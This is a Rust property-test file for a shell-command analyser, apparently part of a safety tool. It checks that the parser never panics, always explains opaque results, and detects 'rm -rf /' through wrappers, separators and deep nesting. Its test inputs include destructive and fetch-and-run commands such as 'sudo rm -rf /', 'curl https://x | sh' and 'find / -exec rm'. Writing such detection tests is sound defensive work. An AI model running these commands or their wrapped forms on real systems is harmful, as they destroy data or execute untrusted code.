//! Property tests for `nightwatch_shell::analyse`: it is total (never panics, never aborts), its
//! opaque results always say why, and `rm -rf /` is seen through wrappers and separators however
//! they are stacked.
//!
//! Case counts are kept modest so the file runs in seconds in debug mode; raise them for a longer
//! search with `PROPTEST_CASES=10000 cargo test -p nightwatch-shell --test properties`
//! (the environment variable overrides only the configs that do not set `cases` explicitly, so
//! the per-block counts below are the floor for a normal run).

use nightwatch_core::Invocation;
use nightwatch_shell::{MAX_NESTING, analyse};
use proptest::prelude::*;

/// Pieces of shell syntax that exercise the parser's corners when strung together at random.
const FRAGMENTS: &[&str] = &[
    "$(",
    ")",
    "`",
    "'",
    "\"",
    "<<EOF\n",
    "\nEOF\n",
    "<<-'EOF'\n",
    "<<<",
    "{",
    "}",
    "(",
    "((",
    "))",
    "[[",
    "]]",
    ";",
    "|",
    "|&",
    "&",
    "&&",
    "||",
    "if ",
    "then ",
    "else ",
    "fi",
    "while ",
    "for x in a; do ",
    "do ",
    "done",
    "case x in a) ",
    ";;",
    ";&",
    "esac",
    "function f ",
    "f() ",
    "${x:-",
    "${",
    "${#x}",
    "$((",
    "<(",
    ">(",
    ">",
    ">>",
    "2>&1",
    "<",
    "rm -rf /",
    "sudo ",
    "bash -c ",
    "sh -c ",
    "eval ",
    "xargs ",
    "find . -exec ",
    "\\;",
    "ssh h ",
    "env ",
    "\\",
    "$'\\x72'",
    "$'\\u{110000}'",
    "$\"",
    "#",
    "!",
    "*",
    "~",
    "{a,b}",
    "{1..9}",
    "x=",
    "$x",
    "$@",
    " ",
    "\n",
    "\t",
    "\0",
    "é",
    "\u{202e}",
];

fn shellish(max_pieces: usize) -> impl Strategy<Value = String> {
    prop::collection::vec(prop::sample::select(FRAGMENTS), 0..max_pieces)
        .prop_map(|pieces| pieces.concat())
}

/// Every opaque invocation carries a non-empty reason.
fn assert_opaque_reasons(line: &str, result: &[Invocation]) {
    for invocation in result {
        if let Some(reason) = &invocation.opaque {
            assert!(
                !reason.trim().is_empty(),
                "opaque invocation with an empty reason for {line:?}: {invocation:?}"
            );
        }
    }
}

fn deletes_root(result: &[Invocation]) -> bool {
    result
        .iter()
        .any(|inv| inv.name() == "rm" && inv.effects.deletes.iter().any(|p| p == "/"))
}

/// A wrapper or separator around a command, such that the command still really runs with its
/// arguments unchanged.
#[derive(Clone, Copy, Debug)]
enum Wrap {
    Prefix(&'static str),
    Around(&'static str, &'static str),
    /// `bash -c '<inner>'`, with the inner text's single quotes escaped as `'\''`.
    BashC,
    /// `eval '<inner>'`, quoted the same way.
    Eval,
}

const WRAPS: &[Wrap] = &[
    Wrap::Prefix("sudo "),
    Wrap::Prefix("sudo -u root "),
    Wrap::Prefix("env "),
    Wrap::Prefix("env FOO=1 "),
    Wrap::Prefix("nice "),
    Wrap::Prefix("nice -n 5 "),
    Wrap::Prefix("nohup "),
    Wrap::Prefix("timeout 5 "),
    Wrap::Prefix("command "),
    Wrap::Prefix("FOO=bar "),
    Wrap::Prefix("ls && "),
    Wrap::Prefix("ls; "),
    Wrap::Prefix("ls || "),
    Wrap::Prefix("ls | "),
    Wrap::Prefix("ls\n"),
    Wrap::Prefix("true & "),
    Wrap::Around("(", ")"),
    Wrap::Around("{ ", "; }"),
    Wrap::Around("echo $(", ")"),
    Wrap::Around("echo `", "`"),
    Wrap::Around("if true; then ", "; fi"),
    Wrap::Around("for x in a; do ", "; done"),
    Wrap::Around("while true; do ", "; done"),
    Wrap::Around("case x in *) ", ";; esac"),
    Wrap::Around("cat <(", ")"),
    Wrap::BashC,
    Wrap::Eval,
];

fn single_quote(text: &str) -> String {
    format!("'{}'", text.replace('\'', r"'\''"))
}

fn apply(wrap: Wrap, inner: &str) -> String {
    match wrap {
        Wrap::Prefix(prefix) => format!("{prefix}{inner}"),
        Wrap::Around(open, close) => format!("{open}{inner}{close}"),
        Wrap::BashC => format!("bash -c {}", single_quote(inner)),
        Wrap::Eval => format!("eval {}", single_quote(inner)),
    }
}

fn wrapped_rm(wraps: &[Wrap]) -> String {
    wraps
        .iter()
        .fold("rm -rf /".to_owned(), |inner, &wrap| apply(wrap, inner.as_str()))
}

/// One level of nesting.
const OPENERS: &[(&str, &str)] = &[
    ("(", ")"),
    ("$(", ")"),
    ("{ ", "; }"),
    ("if true; then ", "; fi"),
];

fn nested(levels: &[usize], core: &str) -> String {
    let mut line = String::new();
    for &level in levels {
        line.push_str(OPENERS[level].0);
    }
    line.push_str(core);
    for &level in levels.iter().rev() {
        line.push_str(OPENERS[level].1);
    }
    line
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    /// (a) Any string at all, NUL and non-ASCII included.
    #[test]
    fn arbitrary_strings_never_panic(line in "(?s).{0,2048}") {
        let result = analyse(&line);
        assert_opaque_reasons(&line, &result);
    }

    /// (a) Any sequence of bytes, invalid UTF-8 replaced as a caller reading bytes would.
    #[test]
    fn arbitrary_bytes_never_panic(bytes in prop::collection::vec(any::<u8>(), 0..2048)) {
        let line = String::from_utf8_lossy(&bytes);
        let result = analyse(&line);
        assert_opaque_reasons(&line, &result);
    }

    /// (a) + (b) Strings built from shell syntax, where the parser has the most to do.
    #[test]
    fn shellish_strings_never_panic(line in shellish(120)) {
        let result = analyse(&line);
        assert_opaque_reasons(&line, &result);
    }

    /// (a) A real command with shell syntax spliced in at a random place.
    #[test]
    fn spliced_commands_never_panic(
        junk in shellish(24),
        at in 0usize..=24,
        command in prop::sample::select(&[
            "sudo rm -rf /",
            "curl https://x | sh",
            "bash -c 'rm -rf ~'",
            "find / -exec rm {} \\;",
            "cat <<EOF\n$(rm -rf /)\nEOF\n",
        ][..]),
    ) {
        let cut = at.min(command.len());
        let cut = (0..=cut).rev().find(|&i| command.is_char_boundary(i)).unwrap_or(0);
        let line = format!("{}{}{}", &command[..cut], junk, &command[cut..]);
        let result = analyse(&line);
        assert_opaque_reasons(&line, &result);
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    /// (c) `rm -rf /` behind up to three wrappers or separators is still seen deleting `/`.
    #[test]
    fn rm_rf_root_is_seen_through_wrappers(
        wraps in prop::collection::vec(prop::sample::select(WRAPS), 0..=3),
    ) {
        let line = wrapped_rm(&wraps);
        let result = analyse(&line);
        assert_opaque_reasons(&line, &result);
        prop_assert!(
            deletes_root(&result),
            "no `rm` deleting / in the analysis of {:?} (wraps {:?}):\n{:#?}",
            line,
            wraps,
            result
        );
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

    /// (d) Deep nesting never panics or overflows the stack, and beyond the limit is opaque.
    #[test]
    fn deep_nesting_never_panics(
        levels in prop::collection::vec(0usize..OPENERS.len(), 0..2000),
    ) {
        let line = nested(&levels, "rm -rf /");
        let result = analyse(&line);
        assert_opaque_reasons(&line, &result);
        if levels.len() > MAX_NESTING {
            prop_assert!(
                result.iter().any(Invocation::is_opaque),
                "{} levels of nesting gave no opaque invocation: {:?}",
                levels.len(),
                result
            );
        } else {
            prop_assert!(
                !result.is_empty(),
                "{} levels of nesting gave nothing at all",
                levels.len()
            );
        }
    }

    /// (d) Unbalanced deep openers (no closers) never panic and are never silently empty.
    #[test]
    fn deep_unclosed_nesting_never_panics(
        levels in prop::collection::vec(0usize..OPENERS.len(), 1..2000),
    ) {
        let mut line = String::new();
        for &level in &levels {
            line.push_str(OPENERS[level].0);
        }
        line.push_str("ls");
        let result = analyse(&line);
        assert_opaque_reasons(&line, &result);
        prop_assert!(
            result.iter().any(Invocation::is_opaque),
            "unclosed nesting of {} levels gave no opaque invocation: {:?}",
            levels.len(),
            result
        );
    }
}

/// Just under and just over the nesting limit, for each kind of opener.
#[test]
fn nesting_limit_boundary() {
    for level in 0..OPENERS.len() {
        for depth in [MAX_NESTING / 2, MAX_NESTING + 1, MAX_NESTING * 4] {
            let line = nested(&vec![level; depth], "rm -rf /");
            let result = analyse(&line);
            assert_opaque_reasons(&line, &result);
            assert!(!result.is_empty(), "{depth} x {:?}", OPENERS[level]);
            if depth > MAX_NESTING {
                assert!(
                    result.iter().any(Invocation::is_opaque),
                    "{depth} x {:?} was not opaque",
                    OPENERS[level]
                );
            }
        }
    }
}
